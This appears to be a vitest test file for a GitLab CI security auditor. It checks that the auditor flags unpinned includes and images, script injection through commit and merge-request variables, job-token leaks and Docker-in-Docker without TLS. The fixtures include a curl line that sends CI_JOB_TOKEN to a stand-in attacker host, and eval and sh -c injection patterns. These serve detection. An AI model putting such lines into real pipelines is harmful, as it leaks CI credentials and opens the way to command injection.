import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditPath } from '../../src/ci/auditor.ts';
import { ids } from './helpers.ts';

const gitlab = (text: string) => ids(text, { kind: 'gitlab' });

describe('GitLab CI', () => {
  it('flags unpinned includes: remote without integrity, project without a SHA, latest components', () => {
    expect(
      gitlab(`
        include:
          - remote: https://example.com/ci.yml
          - remote: https://example.com/pinned.yml
            integrity: sha256-L3ZA2J6Srzd5X/6kz2RcoEnjRqvSgKcvQdaRrS0nWjU=
          - project: group/a
            file: /x.yml
          - project: group/b
            ref: main
            file: /x.yml
          - project: group/c
            ref: 0123456789abcdef0123456789abcdef01234567
            file: /x.yml
          - component: gitlab.com/org/comp/build@~latest
          - component: gitlab.com/org/comp/build@1.4.2
          - template: Security/SAST.gitlab-ci.yml
        job:
          script: [echo]
        `),
    ).toEqual(['gitlab-unpinned-include@2:5', 'gitlab-unpinned-include@5:5', 'gitlab-unpinned-include@7:5', 'gitlab-unpinned-include@13:5']);
  });

  it('flags attacker-controlled variables only where a second evaluation turns them into code', () => {
    expect(
      gitlab(`
        job:
          script:
            - echo "$CI_COMMIT_MESSAGE"
            - 'eval "deploy $CI_COMMIT_BRANCH"'
            - 'sh -c "echo $CI_MERGE_REQUEST_TITLE"'
            - ./build --title "$CI_MERGE_REQUEST_TITLE"
            - 'echo "$[[ inputs.target | expand_vars ]]"'
        `),
    ).toEqual(['gitlab-script-injection@4:8', 'gitlab-script-injection@5:8', 'gitlab-script-injection@7:8']);
  });

  it('flags CI_JOB_TOKEN printed, written to files or sent outside the instance', () => {
    expect(
      gitlab(`
        job:
          script:
            - echo $CI_JOB_TOKEN
            - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"'
            - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" https://evil.example.com'
            - echo "$CI_JOB_TOKEN" | docker login -u gitlab-ci-token --password-stdin $CI_REGISTRY
        `),
    ).toEqual(['gitlab-job-token-misuse@3:7', 'gitlab-job-token-misuse@5:8']);
  });

  it('flags Docker-in-Docker without TLS, once for pipeline-wide settings', () => {
    const text = `
      services: [docker:27-dind]
      variables:
        DOCKER_HOST: tcp://docker:2375
      a:
        script: [docker build .]
      b:
        script: [docker build .]
      tls:
        services: [docker:27-dind]
        script: [docker info]
      `;
    expect(gitlab(text).filter((i) => i.startsWith('gitlab-dind'))).toEqual(['gitlab-dind-without-tls@3:3']);
  });

  it('flags unpinned images and debug traces', () => {
    expect(
      gitlab(`
        image: python
        variables:
          CI_DEBUG_TRACE: "true"
        job:
          image:
            name: node:latest
          script: [npm ci]
        `),
    ).toEqual(['gitlab-unpinned-image@1:1', 'gitlab-debug-trace@3:3', 'gitlab-unpinned-image@5:3']);
  });

  it('audits local includes and reads the configuration after a spec header', () => {
    const report = auditPath(join(import.meta.dirname, '../fixtures/ci/gitlab'));
    expect(report.files.map((f) => f.path)).toEqual(['.gitlab-ci.yml', 'ci/deploy.yml']);
    expect(report.findings.map((f) => `${f.path}:${f.rule}`)).toContain('ci/deploy.yml:gitlab-dind-without-tls');
    expect(gitlab('spec:\n  inputs:\n    x: {}\n---\njob:\n  image: alpine\n  script: [echo]\n')).toEqual(['gitlab-unpinned-image@6:3']);
  });
});
